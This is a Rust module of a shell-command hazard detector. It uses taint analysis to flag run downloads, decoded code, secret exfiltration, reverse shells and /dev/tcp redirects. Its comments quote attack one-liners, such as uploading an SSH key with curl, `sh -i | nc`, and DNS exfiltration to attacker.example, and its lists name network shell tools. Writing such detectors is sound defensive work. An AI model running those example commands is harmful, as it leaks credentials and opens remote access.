//! Hazards of combinations: downloads that are run, secrets that are sent, fork bombs.
//!
//! This is taint analysis: programs are sources, sinks, or pass their input on, and the flows of the parser are the edges. They
//! are processed once, in order, without a fixed point. Ranges of programs are queried by prefix sums and marked by differences,
//! so that many flows over many programs cost their sum and not their product.

use std::collections::HashMap;
use std::ops::Range;
use std::sync::LazyLock;

use super::command::{Command, name_of};
use super::{Hazard, code, hiding, network};
use stockade_shell::lookup::{ByName, by_name};
use stockade_shell::{Actions, Arg, DataFlow, Flow, InvocationKind, Run};

mod bombs;
mod fetched;
mod folders;
mod git_dir_options;
mod hidden;
mod monitoring_probe;
mod repositories;
mod table;
mod working_folders;

pub(crate) use folders::changes_folder;
pub(super) use folders::{find_from as in_folder, opened_at};
pub(crate) use repositories::git_elsewhere;
#[cfg(test)]
pub(super) use table::ALL;
pub(crate) use table::HIDDEN_FETCH_ID;
use table::{
    DECODERS, Decoder, NETWORK_REDIRECT, PIPE_TO_NETWORK, RUN_DECODED, RUN_DOWNLOAD, SEND_SECRET,
    SHELL_TO_NETWORK,
};
pub(super) use working_folders::WorkingFolders;

/// Properties of a program's output, one bit each.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(super) struct Taint(u8);

impl Taint {
    const FETCHED: Self = Self(1);
    const DECODED: Self = Self(2);
    const SECRET: Self = Self(4);
    /// A shell that runs its input.
    const SHELL: Self = Self(8);
    /// A list of running processes.
    const PROGRAMS: Self = Self(16);
    /// A list of devices and kernel modules.
    const DEVICES: Self = Self(32);
    /// The shell history.
    const HISTORY: Self = Self(64);

    /// Returns the taint of a program's own output. `is_secret`: whether it reads a secret.
    pub(super) fn of(run: &Run<'_>, is_secret: bool) -> Self {
        let mut taint = source(run);
        if is_secret {
            taint.add(Self::SECRET);
        }
        taint
    }

    const fn has(self, other: Self) -> bool {
        self.0 & other.0 != 0
    }

    const fn add(&mut self, other: Self) {
        self.0 |= other.0;
    }
}

/// Maximum number of programs in one substitution that search for a program: `$(which a || which b || which c)`.
const MAX_FINDERS: usize = 4;

/// Prefix sums of tainted programs, so that a range is queried in one step.
struct Count(Vec<usize>);

impl Count {
    fn of(taints: &[Taint], which: Taint) -> Self {
        let mut sum = 0;
        let sums = taints.iter().map(|taint| {
            sum += usize::from(taint.has(which));
            sum
        });
        Self(std::iter::once(0).chain(sums).collect())
    }

    fn in_range(&self, range: &Range<usize>) -> bool {
        let before = |at: usize| self.0.get(at).copied().unwrap_or_default();
        before(range.end) > before(range.start)
    }
}

/// Returns hazards of several programs together. `taints` has the taint of each program's own output.
pub(super) fn of_actions(actions: &Actions<'_>, mut taints: Vec<Taint>, found: &mut Vec<Hazard>) {
    // In this order: the output of a function includes the secrets that redirections feed into its body.
    redirected_in(actions, &mut taints);
    called(actions, &mut taints);
    for (run, taint) in actions.runs.iter().zip(&taints) {
        // A program that reads a secret and sends data itself needs no flow: `curl -T ~/.ssh/id_rsa h`.
        if taint.has(Taint::SECRET) && sends(run) {
            found.push(SEND_SECRET.at(run.span));
        }
        // `pgrep falcon` needs no pipe to search for monitoring.
        found.extend(monitoring_probe::asked(run).map(|together| together.at(run.span)));
    }
    // Most commands are a single program without flows.
    if !actions.flows.is_empty() {
        let mut sources = Sources::default();
        for flow in &actions.flows {
            // Flows are in the order of the text, so the taint of earlier programs is complete here.
            let from = sources.taint(&flow.from, &taints);
            flows(actions, flow, from, &mut taints, found);
        }
    }
    sent_by_redirect(actions, &taints, found);
    fetched::run_from_files(actions, &taints, found);
    bombs::find(actions, found);
    folders::find(actions, found);
    hidden::find(actions, found);
}

/// Returns the taint of a program's own output.
fn source(run: &Run<'_>) -> Taint {
    let Some(name) = name_of(run) else { return Taint::default() };
    let mut taint = Taint::default();
    // The output of these programs is chosen by another machine.
    if network::FETCHERS.contains(name) || matches!(name, "nc" | "ncat" | "netcat" | "socat") {
        taint.add(Taint::FETCHED);
    }
    if decodes(name, run) {
        taint.add(Taint::DECODED);
    }
    // The shell history often contains passwords.
    if name == "history" || (name == "fc" && Command::of(run).is_some_and(|command| command.has("-l"))) {
        taint.add(Taint::SECRET);
        taint.add(Taint::HISTORY);
    }
    match monitoring_probe::listing(name) {
        Some(monitoring_probe::Listing::Programs) => taint.add(Taint::PROGRAMS),
        Some(monitoring_probe::Listing::Devices) => taint.add(Taint::DEVICES),
        None => {}
    }
    // `sh -i | nc h 1` sends the prompt out, and a second pipe brings commands back: a reverse shell.
    if waits_for_commands(name, run) {
        taint.add(Taint::SHELL);
    }
    taint
}

static DECODERS_BY_NAME: LazyLock<ByName<Vec<&'static Decoder>>> =
    LazyLock::new(|| by_name(DECODERS, |decoder| decoder.programs));

fn decodes(name: &str, run: &Run<'_>) -> bool {
    let Some(decoders) = DECODERS_BY_NAME.get(name) else { return false };
    Command::of(run).is_some_and(|command| decoders.iter().any(|decoder| (decoder.decodes)(&command)))
}

/// Whether a program is a shell that runs the commands of a remote peer.
fn waits_for_commands(name: &str, run: &Run<'_>) -> bool {
    code::is_shell(name) && (run.argv.len() == 1 || Command::of(run).is_some_and(|command| command.has("-i")))
}

/// Whether a program has an interactive connection with another machine.
fn connects(run: &Run<'_>) -> bool {
    name_of(run).is_some_and(|name| {
        matches!(name, "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl" | "websocat")
    })
}

/// A program with a secret file as input has the secret in its output.
fn redirected_in(actions: &Actions<'_>, taints: &mut [Taint]) {
    if actions.redirects.is_empty() {
        return;
    }
    // One pass for all redirections: +1 where a range of programs starts and -1 where it ends. The running sum is the number of
    // ranges that cover a program.
    let mut edges = vec![0_i64; taints.len() + 1];
    for redirect in actions.redirects.iter().filter(|redirect| redirect.opens_file() && !redirect.writes()) {
        if super::files::is_secret(&redirect.target) {
            for (at, change) in [(redirect.runs.start, 1), (redirect.runs.end, -1)] {
                if let Some(edge) = edges.get_mut(at) {
                    *edge += change;
                }
            }
        }
    }
    let mut open = 0;
    for (taint, edge) in taints.iter_mut().zip(edges) {
        open += edge;
        if open > 0 {
            taint.add(Taint::SECRET);
        }
    }
}

/// The output of a function is the output of the programs in its body.
fn called(actions: &Actions<'_>, taints: &mut [Taint]) {
    if actions.functions.is_empty() {
        return;
    }
    let bodies =
        actions.functions.iter().filter_map(|function| Some((function.name.as_deref()?, &function.runs)));
    let mut written: HashMap<&str, Taint> = HashMap::new();
    for (name, runs) in bodies {
        let body = taints.get(runs.clone()).unwrap_or_default();
        let all = written.entry(name).or_default();
        body.iter().for_each(|taint| all.add(*taint));
    }
    if written.is_empty() {
        return;
    }
    for (run, taint) in actions.runs.iter().zip(taints) {
        // By name only: the last definition is unknown, so all functions with this name count.
        if let (InvocationKind::Function, Some(name)) = (run.invocation, run.program()) {
            taint.add(written.get(name).copied().unwrap_or_default());
        }
    }
}

/// Cache of the combined taint of many programs. A variable passes their output on at every use, when their taint is final, so it
/// is computed once.
#[derive(Default)]
struct Sources(HashMap<Range<usize>, Taint>);

impl Sources {
    /// Fewer programs are faster to combine than to look up.
    const MANY: usize = 16;

    fn taint(&mut self, range: &Range<usize>, taints: &[Taint]) -> Taint {
        let runs = taints.get(range.clone()).unwrap_or_default();
        let all = || Taint(runs.iter().fold(0, |all, taint| all | taint.0));
        if runs.len() < Self::MANY { all() } else { *self.0.entry(range.clone()).or_insert_with(all) }
    }
}

/// Propagates the taint along a flow, and checks what the receiving programs do with it.
fn flows(actions: &Actions<'_>, flow: &Flow, from: Taint, taints: &mut [Taint], found: &mut Vec<Hazard>) {
    if flow.through == DataFlow::Input {
        let readers = actions.runs.get(flow.into.clone()).unwrap_or_default();
        found.extend(readers.iter().filter(|run| sends_input(run)).map(|run| PIPE_TO_NETWORK.at(run.span)));
    }
    let readers = actions.runs.get(flow.into.clone()).unwrap_or_default();
    if flow.through == DataFlow::Input && from.has(Taint::SHELL) {
        found.extend(readers.iter().filter(|run| connects(run)).map(|run| SHELL_TO_NETWORK.at(run.span)));
    }
    // `cp $(which sh) x`: the words of the copy come from a program that searches for another.
    if flow.through == DataFlow::Words {
        let finders = actions.runs.get(flow.from.clone()).filter(|finders| finders.len() <= MAX_FINDERS);
        let pairs =
            finders.unwrap_or_default().iter().flat_map(|from| readers.iter().map(move |run| (from, run)));
        found.extend(pairs.filter_map(|(from, run)| hiding::copies(from, run)));
    }
    // Nearly all flows end here.
    if from == Taint::default() {
        return;
    }
    for (run, taint) in readers.iter().zip(taints.get_mut(flow.into.clone()).unwrap_or_default()) {
        let is_run = match flow.through {
            DataFlow::Input => runs_input(run),
            DataFlow::Words => runs_words(run),
        };
        if is_run && from.has(Taint::FETCHED) {
            found.push(RUN_DOWNLOAD.at(run.span));
        }
        // Encoded code cannot be reviewed, whether or not it came from the network.
        if is_run && from.has(Taint::DECODED) {
            found.push(RUN_DECODED.at(run.span));
        }
        // DNS carries data out through names: `dig $(base64 key).attacker.example` reaches the owner of the domain.
        if from.has(Taint::SECRET) && (sends(run) || (flow.through == DataFlow::Words && looks_up(run))) {
            found.push(SEND_SECRET.at(run.span));
        }
        if flow.through == DataFlow::Input {
            let (programs, devices) = (from.has(Taint::PROGRAMS), from.has(Taint::DEVICES));
            let searched = monitoring_probe::searched(run, programs, devices, from.has(Taint::HISTORY));
            found.extend(searched.map(|together| together.at(run.span)));
        }
        taint.add(from);
    }
}

fn sends(run: &Run<'_>) -> bool {
    /// Subcommands of `openssl` that connect to another machine; the others only use files.
    const CONNECTING: &[&str] = &["s_client", "s_server", "s_time", "ocsp", "cmp", "tsget"];
    name_of(run).is_some_and(|name| network::SENDERS.contains(name))
        && Command::of(run).is_none_or(|command| {
            command.name != "openssl" || command.operand(0).is_none_or(|sub| CONNECTING.contains(&sub))
        })
}

/// Whether a program sends its standard input to the network.
fn sends_input(run: &Run<'_>) -> bool {
    let Some(command) = Some(run).filter(|run| sends(run)).and_then(Command::of) else { return false };
    match command.name {
        "curl" | "wget" | "wget2" | "http" | "https" | "xh" => {
            command.says(&["@-", "-"])
                || command.texts("-X --request --method").any(|verb| matches!(verb, "POST" | "PUT" | "PATCH"))
                || command
                    .texts("-d --data --data-binary --data-raw --json -F --form -T --upload-file")
                    .any(|value| value.ends_with('-'))
        }
        // These copy files by name, and do not send their standard input.
        "rsync" | "scp" | "gsutil" => false,
        // Only `rcat` reads standard input. Other subcommands copy files by name.
        "rclone" => command.is_sub(&["rcat"]),
        _ => true,
    }
}

fn looks_up(run: &Run<'_>) -> bool {
    name_of(run).is_some_and(|name| matches!(name, "dig" | "nslookup" | "host" | "ping" | "drill"))
}

/// Returns the name of a program if it is known: `find` and `xargs` replace `{}` by their input.
fn certain_name<'r>(run: &'r Run<'_>) -> Option<&'r str> {
    name_of(run).filter(|name| *name != "{}")
}

/// Whether a program runs its standard input.
fn runs_input(run: &Run<'_>) -> bool {
    let Some(name) = certain_name(run) else { return true };
    let words = || run.argv.iter().skip(1);
    // These are builtins with the shell's own input, so only an explicit `/dev/stdin` counts.
    if matches!(name, "source" | "." | "eval") {
        return words().any(|word| {
            word.known().is_none_or(|word| matches!(word, "/dev/stdin" | "/proc/self/fd/0" | "-"))
        });
    }
    if !code::is_interpreter(name) {
        return false;
    }
    // `xargs sh` may add any word, such as `-s`.
    if run.open_ended {
        return true;
    }
    let is_shell = code::language(name).is_none();
    for word in words() {
        match word.known() {
            None | Some("-" | "/dev/stdin" | "/proc/self/fd/0") => return true,
            Some(option) if option.starts_with("--") => {}
            Some(option) if option.starts_with(['-', '+']) => {
                // `sh -s` reads its program from standard input, also in a cluster such as `-es`.
                if is_shell && option.starts_with('-') && option.contains('s') {
                    return true;
                }
                // The code is in an option, so the input is data.
                if option.contains(['c', 'm', 'e', 'E', 'r', 'p', 'n']) {
                    return false;
                }
            }
            Some(_script) => return false,
        }
    }
    true
}

/// Whether a program runs its arguments as code.
fn runs_words(run: &Run<'_>) -> bool {
    let Some(name) = certain_name(run) else { return true };
    let mut words = run.argv.iter().skip(1);
    match name {
        "eval" => words.any(|word| word.known().is_none()),
        "source" | "." => words.next().is_some_and(|word| word.known().is_none()),
        name if code::is_interpreter(name) => words
            .find(|word| word.known().is_none_or(|word| !word.starts_with(['-', '+'])))
            .is_some_and(|word| word.known().is_none()),
        _ => false,
    }
}

/// Returns the hazard of a secret that is redirected to the network.
fn sent_by_redirect(actions: &Actions<'_>, taints: &[Taint], found: &mut Vec<Hazard>) {
    if actions.redirects.is_empty() {
        return;
    }
    // Prefix sums, because a group of redirections can cover all programs: `{ …; } > /dev/tcp/h/1 > /dev/tcp/h/2 …`.
    let secret = Count::of(taints, Taint::SECRET);
    for redirect in &actions.redirects {
        let text = match &redirect.target {
            Arg::Known(text) => text,
            Arg::Unknown { prefix, .. } => prefix,
        };
        // bash opens a connection for these names, which do not exist in the file system.
        if !text.starts_with("/dev/tcp/") && !text.starts_with("/dev/udp/") {
            continue;
        }
        found.push(NETWORK_REDIRECT.at(redirect.span));
        if secret.in_range(&redirect.runs) {
            found.push(SEND_SECRET.at(redirect.span));
        }
    }
}
